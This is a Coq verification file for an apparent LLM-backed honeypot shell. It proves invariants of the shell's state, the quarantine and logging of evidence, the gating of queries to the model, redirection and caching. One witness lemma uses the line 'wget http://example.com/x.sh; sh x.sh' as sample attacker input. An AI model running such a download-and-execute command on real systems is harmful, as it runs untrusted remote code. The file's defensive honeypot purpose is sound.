(* ===== verification/ShellProps.v ===== *)
(** * The contract of the shell

    Invariants of every command line by rule induction on [runs]; what is
    logged, kept and asked; the cache; redirection; and how much stack a line
    needs. *)

From S2P Require Import Prelude PyStr OrdDict Path Chmod Vfs HoneypotTree Lru SessionManager VfsTree VfsSpec VfsProps.
From S2P Require Import Regex Json Llm LlmProps ShellParse ShellStatic DateTime Sinkhole Shell ShellEffects ShellSample.

#[local] Arguments lit : simpl never.

Section Contract.
Context `{World}.

(** ** What holds between two commands *)

Definition cached_ok (kv : str * str) : Prop := ∃ sim, kv.2 = to_json sim ∧ 0 ≤ sim_exit sim ≤ 255.
Record session_ok (x : ip_session) : Prop := {
  so_vfs : vfs_ok (s_vfs x);
  so_cwd : canonical (s_cwd x);
  so_cache : Forall cached_ok (s_llm_cache x) }.
Record shell_ok (s : shell) : Prop := {
  ok_session : session_ok (sh_session s);
  ok_cwd : canonical (sh_cwd s);
  ok_oldpwd : ∀ old, sh_oldpwd s = Some old → canonical old;
  ok_home : canonical (sh_home s);
  ok_depth : (sh_depth s ≤ _MAX_SCRIPT_DEPTH)%nat }.

(** What no effect changes. *)
Definition same_identity (s s' : shell) : Prop :=
  sh_session_id s' = sh_session_id s ∧ sh_client_ip s' = sh_client_ip s ∧
  sh_home s' = sh_home s ∧ sh_depth s' = sh_depth s.

Lemma runs_identity s s' : runs s s' → same_identity s s'.
Proof.
  induction 1; try done.
  - by destruct IHruns1 as (?&?&?&?), IHruns2 as (?&?&?&?); repeat split; congruence.
  - by destruct IHruns as (?&?&?&?).
Qed.

Lemma canonicalize_ok raw cwd home : raw ≠ lit "-" → canonical (canonicalize raw cwd home).
Proof. intros Hr. destruct (canonicalize_comps raw cwd home Hr) as (ws & ? & ->). by exists ws. Qed.

Lemma canonical_dash : ¬ canonical (lit "-").
Proof. by intros (ws & _ & ?). Qed.

Section Invariant.
(** The other connections of the client keep the session in order; they run
    command lines too, so [runs_ok] below is what justifies it. *)
Context (Hothers : ∀ n x, session_ok x → session_ok (w_others n x)).

Lemma runs_ok s s' : runs s s' → shell_ok s → shell_ok s'.
Proof using Hothers.
  induction 1 as [| |d s s' Hd Hr IH|now op s|target s node Ht Hn Hdir|code s|s|extra s|s|s|content s
    |digest s|time command path s|argv s Hg|key raw binary args s Hraw]; auto; intros [Hs Hc Ho Hh Hk];
    try by (split; cbn; auto).
  - assert (H1 : shell_ok (set_depth d s)) by by split.
    destruct (IH H1). by split.
  - split; cbn; auto. destruct Hs as [Hv Hcw Hca]. split; cbn; auto.
    destruct (run_op now op (sh_vfs s)) as [r v'] eqn:E. by apply (run_op_ok now op _ r v') in E as [? _].
  - assert (Hcan : canonical target).
    { destruct Ht as [(raw & Hraw & ->)|Hold]; [|by apply Ho]. apply canonicalize_ok.
      destruct Hraw as [?| ->]; [done|]. intros E. rewrite E in Hh. by apply canonical_dash in Hh. }
    destruct Hs as [Hv Hcw Hca]. split; cbn; auto; [by split|]. intros old [= <-]. done.
  - split; cbn; auto. destruct Hs as [Hv Hcw Hca]. split; cbn; auto.
    apply dict_set_Forall; [done|]. eexists. split; [reflexivity|].
    destruct (coerce_cases raw binary args Hraw) as [->|[_ ?]]; [apply usage_error_exit|done].
Qed.
End Invariant.

(** C2: The shell keeps its state in order through every command line, whatever
    is typed, whether it returns or raises, and whatever the client's other
    connections do meanwhile: the filesystem stays well formed with its quota
    counter exact and within the limit, the working directory and [OLDPWD] stay
    canonical absolute paths, the cache holds only validated answers, and the
    script depth is restored and never exceeds its limit. *)
Theorem execute_invariant fuel line s r s' :
  (∀ n x, session_ok x → session_ok (w_others n x)) →
  shell_ok s → execute fuel line s = (r, s') →
  shell_ok s' ∧ sh_depth s' = sh_depth s ∧ sh_home s' = sh_home s ∧
  v_used (sh_vfs s') = dyn_bytes (v_root (sh_vfs s')) ∧
  v_used (sh_vfs s') ≤ v_max_total (sh_vfs s').
Proof.
  intros Ho Hs E. pose proof (traced_execute fuel line s) as Hr. rewrite E in Hr. cbn in Hr.
  pose proof (runs_ok Ho s s' Hr Hs) as Hs'. destruct (runs_identity s s' Hr) as (_ & _ & Hh & Hd).
  destruct (so_vfs _ (ok_session _ Hs')) as [_ _ Hu Ht]. done.
Qed.

(** C34: Refinement: whatever a line makes of the shell, exceptions included, is
    a sequence of the effects listed in [runs]. *)
Theorem execute_effects fuel line s : runs s (execute fuel line s).2.
Proof. apply traced_execute. Qed.

(** ** The model *)

Lemma runs_queries s s' : runs s s' →
  ∃ qs, sh_queries s' = sh_queries s ++ qs ∧ Forall (λ q, gate q = true) qs.
Proof.
  induction 1; try (exists []; split; [by rewrite app_nil_r|done]).
  - destruct IHruns1 as (q1 & E1 & F1), IHruns2 as (q2 & E2 & F2). exists (q1 ++ q2).
    rewrite E2, E1, app_assoc. split; [done|]. by apply Forall_app.
  - done.
  - exists [argv]. split; [done|]. by constructor.
Qed.

(** C7: The model is asked only about allowlisted binaries with arguments that
    pass the filter of the code: each question a line puts is an argument vector
    whose binary, less a system directory, is on the allowlist, and whose every
    argument is at most [_ARGV_MAX_LEN] characters long, has none of the
    characters of [_UNSAFE_ARGV_CHARS], and is an option or an identifier. *)
Theorem model_is_gated fuel line s :
  ∃ qs, sh_queries (execute fuel line s).2 = sh_queries s ++ qs ∧
  Forall (λ q, ∃ binary args, q = binary :: args ∧
    _strip_system_prefix binary ∈ LLM_ALLOWED_BINARIES ∧
    Forall (λ arg, (length arg ≤ _ARGV_MAX_LEN)%nat ∧ Forall (λ c, c ∉ _UNSAFE_ARGV_CHARS) arg ∧
      (startswith arg "-" = true ∧ arg ≠ lit "-" ∨ is_identifier arg = true)) args) qs.
Proof.
  destruct (runs_queries s _ (traced_execute fuel line s)) as (qs & E & Hq). exists qs. split; [done|].
  eapply Forall_impl; [exact Hq|]. intros [|binary args]; [done|]. intros [He Hs]%andb_true_iff.
  exists binary, args. split; [done|]. split; [by apply bool_decide_eq_true_1 in He|].
  cbn in Hs. rewrite forallb_forall in Hs. apply Forall_forall. intros arg Hin.
  specialize (Hs arg (proj1 (list_elem_of_In _ _) Hin)).
  unfold safe_arg in Hs. rewrite !andb_true_iff, orb_true_iff, andb_true_iff in Hs.
  destruct Hs as [[Hl Hc] Hi]. split; [|split].
  - apply negb_true_iff, bool_decide_eq_false in Hl. lia.
  - apply Forall_forall. intros c Hcin Hbad. rewrite forallb_forall in Hc.
    specialize (Hc c (proj1 (list_elem_of_In _ _) Hcin)). unfold contains in Hc.
    by rewrite bool_decide_eq_true_2 in Hc.
  - destruct Hi as [[? ?%bool_decide_eq_true_1]|?]; auto.
Qed.

(** ** Evidence *)

(** Digests name stored files. *)
Definition kept (dir : list (str * str)) (digests : list str) : Prop :=
  Forall (λ d, dict_has dir d = true) digests.
Record evidence_ok (s : shell) : Prop := {
  ev_filed : ∀ k c, dict_get (sh_quarantine s) k = Some c → k = w_sha256 c;
  ev_artifacts : kept (sh_quarantine s) (sh_artifacts s);
  ev_records : Forall (λ r, kept (sh_quarantine s) (cr_captured_artifacts r)) (sh_log s) }.

Definition dir_grows (dir dir' : list (str * str)) : Prop :=
  ∀ k, dict_has dir k = true → dict_has dir' k = true.

Lemma kept_grows dir dir' ds : dir_grows dir dir' → kept dir ds → kept dir' ds.
Proof. intros Hg Hk. eapply Forall_impl; [exact Hk|]. intros d. apply Hg. Qed.

Lemma captured_grows content dir : dir_grows dir (captured content dir).
Proof.
  intros k Hk. unfold captured. destruct (encode_utf8 content) as [data|]; [|done].
  unfold dict_has in *. destruct (decide (w_sha256 data = k)) as [<-|Hne].
  - by rewrite dict_get_set_eq.
  - by rewrite dict_get_set_ne.
Qed.

Lemma runs_grows s s' : runs s s' → dir_grows (sh_quarantine s) (sh_quarantine s').
Proof.
  induction 1; try (by intros k).
  - intros k Hk. auto.
  - exact IHruns.
  - apply captured_grows.
Qed.

Lemma captured_filed content dir :
  (∀ k c, dict_get dir k = Some c → k = w_sha256 c) →
  ∀ k c, dict_get (captured content dir) k = Some c → k = w_sha256 c.
Proof.
  intros Hd k c. unfold captured. destruct (encode_utf8 content) as [data|]; [|apply Hd].
  destruct (decide (w_sha256 data = k)) as [<-|Hne].
  - rewrite dict_get_set_eq. by intros [= ->].
  - rewrite dict_get_set_ne by done. apply Hd.
Qed.

Lemma runs_evidence s s' : runs s s' → evidence_ok s → evidence_ok s'.
Proof.
  induction 1 as [| |d s s' Hd Hr IH| | | | | | | |content s|digest s Hk|time command path s| |]; auto;
    intros [Hf Ha Hl]; try (by split).
  - assert (H1 : evidence_ok (set_depth d s)) by by split. destruct (IH H1). by split.
  - split; cbn; [done|constructor|done].
  - pose proof (captured_grows content (sh_quarantine s)) as Hg.
    split; cbn; [by apply captured_filed|by eapply kept_grows|].
    eapply Forall_impl; [exact Hl|]. intros r. by apply kept_grows.
  - split; cbn; [done| |done]. apply Forall_app. split; [done|]. by constructor.
  - split; cbn; [done|done|]. apply Forall_app. split; [done|]. by constructor.
Qed.

Lemma runs_log_grows s s' : runs s s' →
  ∃ new, sh_log s' = sh_log s ++ new ∧
  Forall (λ r, cr_session_id r = sh_session_id s ∧ cr_client_ip r = sh_client_ip s) new.
Proof.
  induction 1 as [|s1 s2 s3 H1 IH1 H2 IH2| | | | | | | | | | |time command path s| |];
    try (exists []; split; [by rewrite app_nil_r|done]).
  - destruct IH1 as (n1 & E1 & F1), IH2 as (n2 & E2 & F2). exists (n1 ++ n2).
    rewrite E2, E1, app_assoc. split; [done|]. apply Forall_app. split; [done|].
    destruct (runs_identity s1 s2 H1) as (Hi & Hc & _). by rewrite Hi, Hc in F2.
  - done.
  - eexists [_]. split; [done|]. by constructor.
Qed.

(** The body of a command catches everything. *)
Definition returns {A} (m : ST shell A) : Prop := ∀ s, ∃ a s', m s = (Ok a, s').
Lemma returns_ret {A} (a : A) : returns (mret a). Proof. intros s. by repeat eexists. Qed.
Lemma returns_gets {A} (f : shell → A) : returns (gets f). Proof. intros s. by repeat eexists. Qed.
Lemma returns_attempt {A} (m : ST shell A) : returns (attempt m).
Proof. intros s. unfold attempt. destruct (m s) as [r s']. by repeat eexists. Qed.
Lemma returns_bind {A B} (m : ST shell A) (f : A → ST shell B) :
  returns m → (∀ a, returns (f a)) → returns (m ≫= f).
Proof. intros Hm Hf s. rewrite st_bind_eq. destruct (Hm s) as (a & s' & ->). apply Hf. Qed.

Lemma single_body_returns exec cmd_line stripped stdin :
  returns (single_body exec cmd_line stripped stdin).
Proof.
  unfold single_body.
  repeat (apply returns_ret || apply returns_gets || apply returns_attempt || case_match
          || (apply returns_bind; [|intros ?])).
Qed.

(** C22: Evidence is never lost or mislabelled: a line only appends records to the
    session's log, each with this session's identifier and address; no file
    leaves the quarantine; every file there is stored under the digest of its
    contents; and every digest a record names is a file that is there. *)
Theorem evidence_is_kept fuel line s :
  evidence_ok s →
  let s' := (execute fuel line s).2 in
  evidence_ok s' ∧ dir_grows (sh_quarantine s) (sh_quarantine s') ∧
  ∃ new, sh_log s' = sh_log s ++ new ∧
    Forall (λ r, cr_session_id r = sh_session_id s ∧ cr_client_ip r = sh_client_ip s) new.
Proof.
  intros He s'. pose proof (traced_execute fuel line s) as Hr. fold s' in Hr.
  split; [by eapply runs_evidence|]. split; [by apply runs_grows|]. by apply runs_log_grows.
Qed.

(** C9: Telemetry is complete: while the disk can be written, every command that
    is run (each stage of each pipeline, nested scripts included) ends by
    appending its own record, after those of the commands it ran itself: the
    text typed, the session and address, the digests captured and the path it
    was answered by; also when the command raises. *)
Theorem every_command_logged fuel cmd_line stdin s r s' :
  (∀ n, w_disk_ok n = true) → strip cmd_line ≠ [] →
  _execute_single_command (execute fuel) cmd_line stdin s = (r, s') →
  ∃ inner record, sh_log s' = sh_log s ++ inner ++ [record] ∧
    cr_command record = strip cmd_line ∧ cr_session_id record = sh_session_id s ∧
    cr_client_ip record = sh_client_ip s ∧ cr_captured_artifacts record = sh_artifacts s' ∧
    cr_extra record = sh_extra s' ∧
    ∀ result, r = Ok result →
      cr_execution_path record = r_path result ∧ sh_last_exit s' = r_exit_code result.
Proof.
  intros Hdisk Hne. unfold _execute_single_command. cbn zeta. rewrite bool_decide_eq_false_2 by done.
  rewrite st_bind_eq. cbn. rewrite st_bind_eq.
  pose proof (traced_single_body (execute fuel) (traced_execute fuel) cmd_line (strip cmd_line) stdin
                (set_captured [] None s)) as Hr.
  destruct (single_body_returns (execute fuel) cmd_line (strip cmd_line) stdin (set_captured [] None s))
    as ([outcome path] & s1 & E). rewrite E in *. cbn in Hr.
  destruct (runs_log_grows _ _ Hr) as (inner & El & _). cbn in El.
  destruct (runs_identity _ _ Hr) as (Hi & Hc & _ & _). cbn in Hi, Hc.
  unfold single_finally, record_command. repeat (rewrite st_bind_eq; cbn). rewrite Hdisk, El, Hi, Hc.
  destruct outcome as [res|e]; repeat (rewrite ?st_bind_eq; cbn); intros [= <- <-]; exists inner; eexists;
    (split; [cbn; by rewrite <-app_assoc|]); repeat split; naive_solver.
Qed.

(** ** Redirection *)

Lemma vfs_write_cases path content append s r s' :
  vfs_write path content append s = (r, s') →
  ∃ now v', write_file now path content (sh_cwd s) append (sh_vfs s) = (r, v') ∧
  s' = set_session (with_vfs v' (sh_session s)) (tick s).
Proof.
  unfold vfs_write, vfs_call. rewrite st_bind_eq. cbn.
  destruct (write_file _ _ _ _ _ _) as [r0 v'] eqn:E. intros [= <- <-]. by repeat eexists.
Qed.

Lemma fail_shape text code :
  text ≠ [] → r_exit_code (_fail text code) = code ∧ r_output (_fail text code) ≠ [] ∧
  r_exit_session (_fail text code) = false.
Proof.
  intros Ht. repeat split. cbn. unfold _ensure_trailing_newline. case_match; [|done].
  by destruct text.
Qed.

Lemma redirect_failure path label e x :
  redirect_message path label e = Some x →
  r_exit_code x = 1 ∧ r_output x ≠ [] ∧ r_exit_session x = false.
Proof. destruct e; intros [= <-]; by apply fail_shape. Qed.

(** What a redirection leaves untouched. *)
Definition same_files (s s' : shell) : Prop :=
  sh_vfs s' = sh_vfs s ∧ sh_quarantine s' = sh_quarantine s ∧ sh_artifacts s' = sh_artifacts s.

(** A sink takes whatever is written to it and nothing changes. *)
Lemma write_sink now path content cwd append v :
  vfs_ok v → is_sink v path cwd → write_file now path content cwd append v = (Ok tt, v).
Proof.
  intros Hv Hs. unfold write_file. rewrite st_bind_eq. cbn [gets]. case_decide as Hnull; [done|].
  destruct (write_parent v path [] cwd false Hv Hnull (or_introl Hs)) as [Hne [m Hp]].
  destruct (at_child_of_view _ _ _ _ Hne Hp) as (ws & name & ch & Hc & Hr). rewrite decide_False.
  2: { intros Habs. apply Hne. unfold target, loc_parts. by rewrite decide_True. }
  rewrite st_bind_eq. unfold reads at 1. rewrite Hr, (ac_base _ _ _ _ _ _ _ Hc).
  pose proof (at_child_view _ _ _ _ _ _ _ Hc) as Hview.
  destruct Hs as [?|(mx & c & rs & d & He & Hdev)]; [done|]. unfold view in He. rewrite Hview in He.
  destruct (dict_get ch name) as [[| |]|]; simplify_eq/=. by rewrite Hdev.
Qed.

(** What a redirection captures of the output: nothing when the disk cannot be
    written at that moment. *)
Definition captures (data : str) (s s' : shell) : Prop :=
  if w_disk_ok (sh_ticks s')
  then sh_artifacts s' = sh_artifacts s ++ [w_sha256 data] ∧ dict_get (sh_quarantine s') (w_sha256 data) = Some data
  else sh_artifacts s' = sh_artifacts s ∧ sh_quarantine s' = sh_quarantine s.

(** C25: Redirection: when [command > file] or [>> file] goes through, nothing is
    shown and the exit code is kept.  The file then holds the output, behind what
    it held before with [>>], and no other entry has changed; if it is a
    character device or [/dev/null], the filesystem is the same.  While the disk
    can be written the output is captured in either case: the quarantine holds
    it under its digest, which the record will name; otherwise the error of the
    disk is swallowed and nothing is captured.  When the write fails, the message
    of the failure takes the place of the output, with exit code 1, and no file,
    artifact or quota has changed. *)
Theorem redirection_spec result path append name s r s' :
  (∀ b, w_sha256 b ≠ []) → vfs_ok (sh_vfs s) →
  _apply_redirection result path append name s = (Ok r, s') →
  (r = CommandResult [] (r_exit_session result) (r_exit_code result) (r_path result) ∧
   (is_sink (sh_vfs s) path (sh_cwd s) → sh_vfs s' = sh_vfs s) ∧
   (¬ is_sink (sh_vfs s) path (sh_cwd s) →
    let there := target (sh_vfs s) path (sh_cwd s) in
    let old := old_content (view (v_root (sh_vfs s)) there) in
    read_file (sh_vfs s') path (sh_cwd s) = Ok (if append then old ++ r_output result else r_output result) ∧
    ∀ qs, qs ≠ there → view (v_root (sh_vfs s')) qs = view (v_root (sh_vfs s)) qs) ∧
   ∃ data, encode_utf8 (r_output result) = Ok data ∧ captures data s s')
  ∨ (r_exit_code r = 1 ∧ r_output r ≠ [] ∧ r_exit_session r = false ∧ same_files s s').
Proof.
  intros Hsha Hv. unfold _apply_redirection, try_else.
  destruct (vfs_write path (r_output result) append s) as [[[]|e] s1] eqn:E;
    apply vfs_write_cases in E as (now & v' & Hw & ->).
  - rewrite st_bind_eq. unfold _quarantine. rewrite st_bind_eq. cbn. unfold quarantine_artifact.
    destruct (encode_utf8 _) as [data|e] eqn:Ee; cbn.
    2: { unfold encode_utf8 in Ee. destruct (encodable _); simplify_eq/=. done. }
    intros Hrun. left. assert (Hr : r = CommandResult [] (r_exit_session result) (r_exit_code result) (r_path result)
      ∧ sh_vfs s' = v' ∧ captures data s s').
    { unfold captures. destruct (w_disk_ok _) eqn:Hdisk; cbn in Hrun;
        [rewrite bool_decide_eq_false_2 in Hrun by apply Hsha|]; injection Hrun as <- <-; cbn; rewrite Hdisk;
        (split; [done|]; split; [done|]; split; [done|]); [apply dict_get_set_eq|done]. }
    destruct Hr as (-> & -> & Hcap). split; [done|]. split.
    { intros Hs. rewrite write_sink in Hw by done. by injection Hw as <-. }
    split; [|by exists data]. intros Hs. split; [by eapply write_reads_back|].
    by apply (write_view _ _ _ _ _ _ _ Hv Hw Hs).
  - destruct (write_ok _ _ _ _ _ _ _ _ Hv Hw) as [_ Hsame]. specialize (Hsame eq_refl) as ->.
    intros Hm. right. pose proof (redirect_failure path (or_default name path) e) as Hf.
    destruct (redirect_message _ _ e) as [x|]; [|done]. injection Hm as <- <-.
    destruct (Hf x eq_refl) as (?&?&?). repeat split; done.
Qed.

(** ** The cache *)

Lemma llm_context_state s r s' : _llm_context s = (r, s') → s' = s.
Proof.
  unfold _llm_context, try_else, vfs_read, reads. rewrite st_bind_eq.
  destruct (list_dir _ _ _) as [l|e]; [by intros [= <- <-]|]. destruct (is_missing e); by intros [= <- <-].
Qed.

Lemma dispatch_gated tokens command args stripped stdin s :
  gate tokens = true → _is_cacheable_llm_command tokens = true →
  dispatch_llm tokens command args stripped stdin s =
  match dict_get (sh_cache s) (llm_cache_key stripped stdin) with
  | Some text => (Ok (_llm_result (coerce_llm_simulation (RawText text) command args) PCache), s)
  | None => ask_llm tokens command args stripped stdin (llm_cache_key stripped stdin) true s
  end.
Proof.
  intros [He Hs]%andb_true_iff Hc. unfold dispatch_llm. rewrite He, Hs, Hc. cbn [negb]. cbv zeta.
  rewrite st_bind_eq. unfold gets. cbn beta iota. by destruct (dict_get _ _).
Qed.

(** A command that is not in the cache is put to the model once, and its answer
    remembered. *)
Lemma ask_effect tokens command args stripped stdin key s r path s1 :
  ask_llm tokens command args stripped stdin key true s = (Ok (r, path), s1) →
  ∃ raw, from_provider raw ∧
    let sim := coerce_llm_simulation raw command args in
    r = CommandResult (rendered sim) false (sim_exit sim) PVfs ∧ path = PLlm ∧
    sh_queries s1 = sh_queries s ++ [tokens] ∧ dict_get (sh_cache s1) key = Some (to_json sim).
Proof.
  unfold ask_llm. rewrite st_bind_eq.
  destruct (_llm_context s) as [[context|e] s0] eqn:Ec; [|done]. apply llm_context_state in Ec as ->.
  cbv zeta. set (line := if bool_decide (stdin = []) then stripped else _). rewrite st_bind_eq.
  pose proof (query_ok line context tokens s) as Hok.
  assert (Hq : ∀ a s', generate_response line context tokens s = (a, s') →
    sh_queries s' = sh_queries s ++ [tokens]) by by intros a s' [= <- <-].
  destruct (generate_response _ _ _ s) as [[raw|e] s'] eqn:Eg; [|done].
  rewrite st_bind_eq. unfold modify. cbn beta iota. intros [= <- <- <-].
  exists raw. split; [by apply Hok|]. split; [done|]. split; [done|]. split; [by apply (Hq _ _ eq_refl)|].
  apply dict_get_set_eq.
Qed.

(** What is shown is well-formed text only if both streams are. *)
Lemma rendered_text_ok sim : text_ok (rendered sim) → text_ok (sim_stdout sim) ∧ text_ok (sim_stderr sim).
Proof.
  unfold rendered, text_ok. intros Ht.
  assert (Hm : ∀ m : str, Forall (λ c, char_ok c = true)
      (if bool_decide (m ≠ []) && negb (endswith m [10]) then m ++ [10] else m) →
    Forall (λ c, char_ok c = true) m).
  { intros m. destruct (bool_decide (m ≠ []) && negb (endswith m [10])); [by intros [? _]%Forall_app|done]. }
  apply Hm in Ht. apply Forall_app in Ht as [Ho He]. split; [|done].
  destruct (bool_decide (sim_stdout sim ≠ []) && bool_decide (sim_stderr sim ≠ []) &&
            negb (endswith (sim_stdout sim) [10])); [by apply Forall_app in Ho as [? _]|done].
Qed.

(** C37: The cache is transparent: a cacheable command is put to the model at most
    once; when the same line, with the same standard input, comes again while
    the entry is there, it is answered with the same output and exit code, by
    the path [cache], and nothing else happens: no question, no effect on the
    session. *)
Theorem cached_answer_replayed tokens command args stripped stdin s r path s1 s2 :
  gate tokens = true → _is_cacheable_llm_command tokens = true →
  dispatch_llm tokens command args stripped stdin s = (Ok (r, path), s1) →
  dict_get (sh_cache s2) (llm_cache_key stripped stdin) =
  dict_get (sh_cache s1) (llm_cache_key stripped stdin) →
  text_ok (r_output r) →
  (path = PCache ∧ s1 = s ∨ path = PLlm ∧ sh_queries s1 = sh_queries s ++ [tokens]) ∧
  dispatch_llm tokens command args stripped stdin s2 = (Ok (r, PCache), s2).
Proof.
  intros Hg Hc Hd Hkey Ht. rewrite dispatch_gated in Hd by done.
  rewrite (dispatch_gated _ _ _ _ _ s2), Hkey by done.
  destruct (dict_get (sh_cache s) _) as [text|] eqn:Ek.
  - injection Hd as <- <- <-. split; [by left|]. by rewrite Ek.
  - apply ask_effect in Hd as (raw & Hraw & -> & -> & Hq & ->). split; [by right|].
    apply rendered_text_ok in Ht as [Hto Hte]. by rewrite coerce_replay.
Qed.
End Contract.

(** ** Witnesses *)

Lemma canonical_one w : comp_ok w → canonical (render [w]).
Proof. intros Hw. exists [w]. split; [by constructor|done]. Qed.

Lemma sample_ok : shell_ok sample_shell.
Proof.
  assert (Hr : canonical DEFAULT_HOME).
  { apply (canonical_one "root"). vm_decide. }
  split; [split|..]; [apply default_vfs_ok|exact Hr|constructor|exact Hr|done|exact Hr|vm_decide].
Qed.

Lemma execute_invariant_witness :
  let line : str := "mkdir -p /tmp/x; cd /tmp/x && echo hi > a; rm -r /tmp; cd -" in
  let s' := (@execute sample_world 5 line sample_shell).2 in
  shell_ok s' ∧ sh_depth s' = sh_depth sample_shell ∧ sh_home s' = sh_home sample_shell ∧
  v_used (sh_vfs s') = dyn_bytes (v_root (sh_vfs s')) ∧ v_used (sh_vfs s') ≤ v_max_total (sh_vfs s').
Proof.
  intros line s'.
  apply (@execute_invariant sample_world 5 line sample_shell (@execute sample_world 5 line sample_shell).1).
  - intros n x Hx. exact Hx.
  - apply sample_ok.
  - apply surjective_pairing.
Defined.

Lemma evidence_is_kept_witness :
  let s' := (@execute sample_world 5 "wget http://example.com/x.sh; sh x.sh" sample_shell).2 in
  @evidence_ok sample_world s' ∧ dir_grows (sh_quarantine sample_shell) (sh_quarantine s') ∧
  ∃ new, sh_log s' = sh_log sample_shell ++ new ∧
    Forall (λ r, cr_session_id r = sh_session_id sample_shell ∧
                 cr_client_ip r = sh_client_ip sample_shell) new.
Proof.
  apply (@evidence_is_kept sample_world 5 "wget http://example.com/x.sh; sh x.sh" sample_shell).
  split; [intros k c E; discriminate E|constructor|constructor].
Defined.

Lemma every_command_logged_witness :
  let line : str := " sh -c 'echo hi > /tmp/a' " in
  let out := @_execute_single_command sample_world (@execute sample_world 3) line [] sample_shell in
  ∃ inner record, sh_log out.2 = sh_log sample_shell ++ inner ++ [record] ∧
    cr_command record = strip line ∧ cr_session_id record = sh_session_id sample_shell ∧
    cr_client_ip record = sh_client_ip sample_shell ∧
    cr_captured_artifacts record = sh_artifacts out.2 ∧ cr_extra record = sh_extra out.2 ∧
    ∀ result, out.1 = Ok result →
      cr_execution_path record = r_path result ∧ sh_last_exit out.2 = r_exit_code result.
Proof.
  intros line out. apply (@every_command_logged sample_world 3 line [] sample_shell).
  - done.
  - vm_compute. discriminate.
  - apply surjective_pairing.
Defined.

Lemma redirection_spec_witness :
  let result := CommandResult "hi" false 0 PVfs in
  let s' := (@_apply_redirection sample_world result "/tmp/a" false "echo" sample_shell).2 in
  read_file (sh_vfs s') "/tmp/a" "/root" = Ok (lit "hi") ∧ sh_artifacts s' = [lit "#hi"].
Proof.
  intros result s'.
  destruct (@redirection_spec sample_world result "/tmp/a" false "echo" sample_shell
              (CommandResult [] false 0 PVfs) s') as [(_ & _ & Hread & data & Hd & Ha & _)|(He & _)].
  - done.
  - apply default_vfs_ok.
  - vm_compute. reflexivity.
  - split.
    + apply Hread. intros [E|(m & c & rs & d & E & _)]; vm_compute in E; discriminate.
    + rewrite Ha. vm_compute in Hd. injection Hd as <-. reflexivity.
  - discriminate He.
Defined.

Lemma cached_answer_replayed_witness :
  let tokens := [lit "systemctl"; lit "status"; lit "nginx"] in
  let run := @dispatch_llm sample_world tokens "systemctl" (drop 1 tokens) "systemctl status nginx" [] in
  let s1 := (run sample_shell).2 in
  let r := CommandResult (lit "Unit nginx.service could not be found." ++ [10]) false 3 PVfs in
  run sample_shell = (Ok (r, PLlm), s1) ∧ run s1 = (Ok (r, PCache), s1).
Proof.
  intros tokens run s1 r.
  assert (E : run sample_shell = (Ok (r, PLlm), s1)) by (vm_compute; reflexivity).
  split; [exact E|].
  destruct (@cached_answer_replayed sample_world tokens "systemctl" (drop 1 tokens)
    "systemctl status nginx" [] sample_shell r PLlm s1 s1 eq_refl eq_refl E eq_refl) as [_ Hreplay].
  - repeat constructor.
  - exact Hreplay.
Defined.
